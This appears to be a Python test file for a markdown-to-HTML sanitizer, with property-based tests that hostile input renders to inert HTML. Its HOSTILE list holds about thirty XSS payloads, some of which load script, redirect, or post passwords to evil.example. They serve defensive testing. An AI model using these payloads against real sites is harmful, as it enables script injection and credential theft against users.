"""Markdown becomes HTML that can do nothing."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desk.knowledge import markdown

ALLOWED = re.compile(
    r"</?(?:p|br|hr|strong|em|s|code|pre|blockquote|ul|li|h[3-6]|table|thead|tbody|tr|th|td|ol)>"
    r"|<ol start=\"\d+\">"
    r"|<a(?: href=\"(?:https?:|mailto:|tel:|/|#|\?)?[^\"<>]*\")? rel=\"noopener noreferrer nofollow\">|</a>"
)
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    '![x](x "onerror=alert(1)")',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)' onclick='alert(1)'>x</a>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>*{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    '[x](https://a.example" onmouseover="alert(1))',
    "> - **<b onclick=alert(1)>`<script>`</b>**",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "```html\n<script>alert(1)</script>\n```",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "\x00<script>alert(1)</script>",
]


def harmless(html: str) -> bool:
    """Nothing but the tags that we know, with no attribute but an address that can do nothing."""
    left = ALLOWED.sub("", html)
    return "<" not in left and not re.search(r'href="\s*(javascript|data|vbscript):', html, re.IGNORECASE)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_does_nothing(text):
    assert harmless(markdown.to_html(text)), markdown.to_html(text)
    assert harmless(markdown.clean(text)), markdown.clean(text)  # should the first gate ever be open


@given(
    st.lists(st.sampled_from([*HOSTILE, "\n", "> ", "- ", "1. ", "*", "`", "](", "<", ">", '"', "&", "文"]))
)
def test_no_mixture_of_them_does_either(pieces):
    assert harmless(markdown.to_html("".join(pieces)))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# Big", "<h3>Big</h3>"),
        ("###### Small", "<h6>Small</h6>"),
        ("Two\n\n1. one\n2. two", "<p>Two</p>\n<ol>\n<li>one</li>\n<li>two</li>\n</ol>"),
        ("**刹车**", "<p><strong>刹车</strong></p>"),
        ("~~no~~", "<p><s>no</s></p>"),
        (
            "[us](https://example.org)",
            '<p><a href="https://example.org" rel="noopener noreferrer nofollow">us</a></p>',
        ),
        ("1 < 2 & 3", "<p>1 &lt; 2 &amp; 3</p>"),
    ],
)
def test_what_is_meant_is_rendered(text, html):
    assert markdown.to_html(text).strip() == html


def test_the_first_line_is_words_alone():
    assert markdown.first_line("**Cold** only: `bed in` & wait.\n\n1. Ask") == "Cold only: bed in & wait."
    assert markdown.plain("a\n\n1. b\n2. c") == "a\nb\nc"
    assert markdown.first_line("") == ""
